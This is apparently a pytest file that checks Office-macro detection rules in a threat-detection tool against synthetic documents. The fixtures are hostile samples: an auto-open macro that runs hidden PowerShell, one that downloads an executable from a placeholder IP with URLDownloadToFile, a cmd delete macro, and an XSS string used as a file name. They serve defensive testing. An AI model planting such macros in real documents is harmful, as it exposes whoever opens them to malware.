"""The Office rules (threatscope/detect/rules/office/) through the detect stage: real documents
from the generator, ingested into a workspace, then run_detect. Each rule has documents that
must fire it and look-alikes that must not."""

from __future__ import annotations

import re
import uuid
from pathlib import Path

import pytest
import yaml

from tests.detect.sigma_helpers import rule_yaml
from threatscope.detect import run_detect
from threatscope.ingest import ingest_paths
from threatscope.simulate.office import write_doc, write_docm, write_docx, write_xls
from threatscope.workspace import Workspace

PACK = Path(__file__).resolve().parents[2] / "threatscope" / "detect" / "rules" / "office"
META = {p.stem: yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted(PACK.glob("*.yml"))}
ID = {stem: str(d["id"]) for stem, d in META.items()}

HOSTILE = "<img src=x onerror=alert(1)>.docm"
OPEN, CLOSE = "Sub Document_Open()\r\n", "End Sub\r\n"
DOCS = {
    # file name -> (writer, modules); writer None: a document without macros
    "dropper.docm": (write_docm, {"ThisDocument": OPEN + (
        '    Set sh = CreateObject("WScript.Shell")\r\n'
        '    sh.Run "powershell -nop -w hidden -c calc"\r\n') + CLOSE}),
    "manual_shell.doc": (write_doc, {"Module1": (
        "Sub Cleanup()\r\n    Shell \"cmd.exe /c del %TEMP%\\*.tmp\", vbHide\r\n") + CLOSE}),
    "button.docm": (write_docm, {"ThisDocument": (
        "Sub CommandButton1_Click()\r\n    Selection.TypeText \"ok\"\r\n") + CLOSE}),
    "local_files.doc": (write_doc, {"ThisDocument": OPEN + (
        '    Set fso = CreateObject("Scripting.FileSystemObject")\r\n'
        '    Set f = fso.OpenTextFile("C:\\data\\prices.txt")\r\n'
        '    ActiveDocument.Range.Text = f.ReadAll\r\n') + CLOSE}),
    "fetcher.docm": (write_docm, {"Module1": (
        'Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" Alias '
        '"URLDownloadToFileA" (ByVal p As LongPtr, ByVal u As String, ByVal f As String, '
        'ByVal r As Long, ByVal c As LongPtr) As Long\r\n'
        "Sub AutoOpen()\r\n"
        '    URLDownloadToFile 0, "http://198.51.100.7/invoice.exe", "C:\\Users\\Public\\i.exe", 0, 0\r\n'
        ) + CLOSE}),
    "xmlhttp.doc": (write_doc, {"Module1": (
        "Sub Refresh()\r\n"
        '    Set h = CreateObject("MSXML2.ServerXMLHTTP")\r\n'
        '    h.Open "GET", "http://intranet.example/rates", False\r\n') + CLOSE}),
    "plain.docx": (None, {}),
    "macro_sheet.xls": (write_xls, {}),
    "plain.xls": (write_xls, {}),
    HOSTILE: (write_docm, {"ThisDocument": OPEN + '    MsgBox "<script>x</script>"\r\n' + CLOSE}),
}
# rule -> (documents that must fire it, look-alikes that must not)
CASES = {
    "office_macro_autoexec": (
        {"dropper.docm", "local_files.doc", "fetcher.docm", HOSTILE},
        {"manual_shell.doc", "button.docm", "xmlhttp.doc", "plain.docx", "macro_sheet.xls",
         "plain.xls"}),
    "office_macro_shell": (
        {"dropper.docm", "manual_shell.doc"},
        {"local_files.doc", "button.docm", "fetcher.docm", "plain.docx", HOSTILE}),
    "office_macro_download": (
        {"fetcher.docm", "xmlhttp.doc"},
        {"local_files.doc", "dropper.docm", "manual_shell.doc", "plain.docx"}),
    "office_xlm_macro": ({"macro_sheet.xls"}, {"plain.xls", "dropper.docm", "plain.docx"}),
}
USER_RULE = "00000000-0000-4000-8000-00000000d0c1"


@pytest.fixture(scope="module")
def detected(tmp_path_factory):
    root = tmp_path_factory.mktemp("office")
    docs = root / "in" / "acme"
    for name, (writer, modules) in DOCS.items():
        if name == "plain.docx":
            write_docx(docs / name, "quarterly figures")
        elif name == "macro_sheet.xls":
            write_xls(docs / name, None, macro_sheet="Macro1")
        else:
            writer(docs / name, modules)
    ws = Workspace.open(root / "ws", create=True)
    summary = ingest_paths(ws, [str(root / "in")])
    assert summary.rows_written == len(DOCS) and summary.rows_quarantined == 0
    rules = root / "rules"
    rules.mkdir()
    # a user's rule: an ECS field name of the document table and a keyword (raw or vba_code)
    (rules / "mine.yml").write_text(rule_yaml(
        "sel:\n  file.extension: docm\nkw:\n  - 'powershell -nop'\ncondition: sel and kw",
        logsource="category: office_document").replace(
            "00000000-0000-4000-8000-000000000001", USER_RULE))
    run_detect(ws, rule_dirs=[rules])
    with ws.connect() as con:
        cur = con.execute("SELECT d.*, doc.file_name FROM detection d JOIN document doc "
                          "USING (file_id, source_line)")
        names = [c[0] for c in cur.description]
        return [dict(zip(names, r, strict=True)) for r in cur.fetchall()]


def _fired(detected, rule_id: str) -> set[str]:
    return {d["file_name"] for d in detected if d["rule_id"] == rule_id}


def test_rule_metadata():
    assert set(META) == set(CASES)
    assert len(set(ID.values())) == len(ID)
    for d in META.values():
        uuid.UUID(str(d["id"]))
        assert d["logsource"] == {"category": "office_document"}
        assert d["author"] == "threatscope" and d["description"] and d["falsepositives"]
        assert "attack.execution" in d["tags"]
        assert any(re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", t) for t in d["tags"])


@pytest.mark.parametrize("stem", sorted(CASES))
def test_rule_fires_on_its_documents_only(detected, stem):
    must, must_not = CASES[stem]
    fired = _fired(detected, ID[stem])
    assert must <= fired
    assert not fired & must_not


def test_detection_rows(detected):
    by = {(d["file_name"], d["rule_id"]): d for d in detected}
    auto = by[("dropper.docm", ID["office_macro_autoexec"])]
    assert auto["event_kind"] == "document" and auto["org_id"] == "acme"
    assert auto["attack_techniques"] == ["T1204.002", "T1059.005"]
    assert auto["severity"] == "medium" and auto["detector"] == "sigma"
    assert auto["evidence"].startswith("dropper.docm; auto-exec: Document_Open; suspicious: ")
    assert "WScript.Shell" in auto["evidence"]
    down = by[("fetcher.docm", ID["office_macro_download"])]
    assert down["attack_techniques"] == ["T1059.005", "T1105"]
    assert "URLDownloadToFileA" in down["evidence"]
    assert "IOCs: http://198.51.100.7/invoice.exe" in down["evidence"]
    # a hostile file name is evidence text, as it is (the report escapes what it shows)
    assert by[(HOSTILE, ID["office_macro_autoexec"])]["evidence"] == (
        HOSTILE + "; auto-exec: Document_Open")


def test_user_rule_with_ecs_field_and_keyword(detected):
    assert _fired(detected, USER_RULE) == {"dropper.docm"}
